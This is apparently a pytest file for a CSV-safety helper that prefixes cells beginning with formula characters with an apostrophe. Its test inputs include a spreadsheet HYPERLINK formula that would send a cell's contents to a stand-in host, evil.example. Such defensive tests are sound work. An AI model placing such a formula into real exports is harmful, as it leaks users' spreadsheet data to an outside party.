"""CSV cells that would run as spreadsheet formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from mosovo.lib.csv_safety import SafeCsvWriter, csv_safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "Click")',
        "+1",
        "-1",
        "@SUM(A1:A2)",
        "\tTab first",
        "\rCarriage return first",
        "=1+1",
    ],
)
def test_a_cell_starting_with_a_formula_character_gets_a_leading_apostrophe(value: str) -> None:
    assert csv_safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Plain text", "Plain text"),
        ("a=b", "a=b"),
        ("officer_a (Alice Ashdown)", "officer_a (Alice Ashdown)"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (" =1", " =1"),  # a leading space: spreadsheets read this as text already
    ],
)
def test_other_cells_are_left_as_they_are(value: object, expected: str) -> None:
    assert csv_safe_cell(value) == expected


def test_nul_characters_are_removed_and_a_leading_nul_is_escaped() -> None:
    assert csv_safe_cell("a\0b") == "ab"
    assert csv_safe_cell("\0=1+1") == "'=1+1"
    assert csv_safe_cell("\0") == "'"


def test_a_negative_number_is_escaped_like_any_other_cell_starting_with_minus() -> None:
    assert csv_safe_cell(-5) == "'-5"


def test_the_writer_escapes_every_cell_and_counts_the_rows() -> None:
    sink = io.StringIO()
    writer = SafeCsvWriter(sink)
    writer.writerow(["name", "note"])
    written = writer.writerows([["=cmd", "fine"], ["ok", "@SUM(1)"], [None, "-2"]])

    assert written == 3
    rows = list(csv.reader(io.StringIO(sink.getvalue())))
    assert rows == [["name", "note"], ["'=cmd", "fine"], ["ok", "'@SUM(1)"], ["", "'-2"]]


def test_the_writer_quotes_commas_quotes_and_line_breaks() -> None:
    sink = io.StringIO()
    SafeCsvWriter(sink).writerow(['a, "b"', "line one\nline two"])

    assert list(csv.reader(io.StringIO(sink.getvalue()))) == [['a, "b"', "line one\nline two"]]
